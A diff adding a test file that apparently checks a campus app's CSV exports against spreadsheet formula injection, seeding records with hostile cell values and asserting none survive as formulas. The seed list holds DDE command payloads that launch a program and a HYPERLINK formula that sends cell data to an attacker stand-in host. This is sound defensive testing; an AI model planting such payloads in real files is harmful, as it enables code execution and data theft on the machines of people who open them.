@@ -1,0 +1,111 @@
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { placePermissions, places } from '../src/places.ts';
+import { groupCalls } from '../src/platform/documents/call-groups.ts';
+import type { TestClient } from '../src/platform/server/testing/test-client.ts';
+import { createTestServer, type TestServer } from '../src/platform/server/testing/test-server.ts';
+import { addRaLog, assignFollowUp, closeFollowUp, reviewRaLog } from '../src/tools/ra-logs/contract.ts';
+import { serverTools } from '../src/tools/server.ts';
+import { createLink } from '../src/tools/short-links/contract.ts';
+
+const exports = groupCalls(serverTools)
+  .flatMap((group) => group.calls)
+  .filter(({ reply }) => reply.kind === 'download' && reply.contentType.startsWith('text/csv'));
+
+/** Texts that run in some spreadsheet when they stand in a cell as they are, and such that break a file apart. */
+const hostile = [
+  '=1+1',
+  '=HYPERLINK("https://evil.example?"&A1,"click")',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '"=1+1"',
+  '",=1+1,"',
+  'a"\r\n=1+1,"',
+  "'=1+1",
+  '＝1+1',
+  '﹢1+1',
+  '−1+1',
+  '\u200b=1+1',
+  '\u2066=1+1',
+  '\u00ad@SUM(1)',
+  '\u0001=1+1',
+  'a\n=1+1',
+  'a,b;c\td',
+];
+
+let server: TestServer;
+let it: TestClient;
+
+beforeAll(async () => {
+  server = await createTestServer({ tools: serverTools, places, placePermissions });
+  it = await server.signIn('it');
+  const { pool } = server.database;
+  for (const [index, text] of hostile.entries()) {
+    // What a directory says of a person may be hostile as well.
+    await pool.query(`update people set name = $1 where email = 'it@sawtooth.example'`, [text]);
+    const texts = { safetyConcerns: text, warnings: text, reports: text, comments: text };
+    const { body } = await it.send(addRaLog, { body: { building: 'Anderson', followUp: true, ...texts } });
+    const params = { id: body.data._id };
+    await it.send(reviewRaLog, { params, body: {} });
+    await it.send(assignFollowUp, { params, body: { owner: '-owner@sawtooth.example' } });
+    await it.send(closeFollowUp, { params, body: { closingNote: text } });
+    const longUrl = `https://example.com/?q=${encodeURIComponent(text)}`;
+    const added = await it.send(createLink, { body: { shortUrl: `-${index}_`, longUrl } });
+    expect([text, added.status]).toEqual([text, 201]);
+  }
+  await pool.query(`update short_links set created_by = '=' || created_by`);
+});
+afterAll(() => server.stop());
+
+/** Cells of a file by RFC 4180 to the letter: what it does not allow is an error. */
+function cellsOf(file: string): string[][] {
+  const records: string[][] = [];
+  const record = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/y;
+  let cells: string[] = [];
+  while (record.lastIndex < file.length) {
+    const at = record.lastIndex;
+    const [, cell = '', end] = record.exec(file) ?? [];
+    if (end === undefined) throw new Error(`This is no CSV: ${JSON.stringify(file.slice(at, at + 60))}`);
+    cells.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
+    if (end === ',') continue;
+    records.push(cells);
+    cells = [];
+  }
+  return records;
+}
+
+/** The first sign of a cell that is seen, in its plain form. */
+function firstSign(cell: string): string {
+  const seen = Array.from(cell).find((sign) => !/[\s\p{Z}\p{C}]/u.test(sign)) ?? '';
+  return seen.normalize('NFKC').replace('\u2212', '-');
+}
+
+test.each(exports.map((call) => [call.name, call] as const))(
+  'no cell of %s is a formula, every record has every cell, and nothing is lost',
+  async (_name, call) => {
+    const { status, text, headers } = await it.send(call, {});
+    expect(status).toBe(200);
+    expect(headers['content-disposition']).toMatch(/^attachment; filename="[a-z0-9-]+\.csv"$/);
+    const [header = [], ...records] = cellsOf(text);
+    expect(records, 'an export without rows proves nothing: fill it above').toHaveLength(hostile.length);
+    for (const record of records) {
+      expect(record).toHaveLength(header.length);
+      for (const cell of record) {
+        expect('=+-@'.includes(firstSign(cell)) && firstSign(cell) !== '', JSON.stringify(cell)).toBe(false);
+        expect(cell).not.toMatch(/^[\t\r\n]/);
+      }
+    }
+  },
+);
+
+test('a text of a log comes out as it was written, but for the apostrophe', async () => {
+  const call = exports.find(({ name }) => name === 'exportRaLogs');
+  if (call === undefined) throw new Error('RA logs are not exported.');
+  const [header = [], ...records] = cellsOf((await it.send(call, {})).text);
+  const written = records.map((record) => record[header.indexOf('comments')]).toReversed();
+  const trimmed = hostile.map((text) => text.trim().normalize('NFC'));
+  expect(written.map((cell, index) => (cell === `'${trimmed[index]}` ? cell.slice(1) : cell))).toEqual(
+    trimmed,
+  );
+});
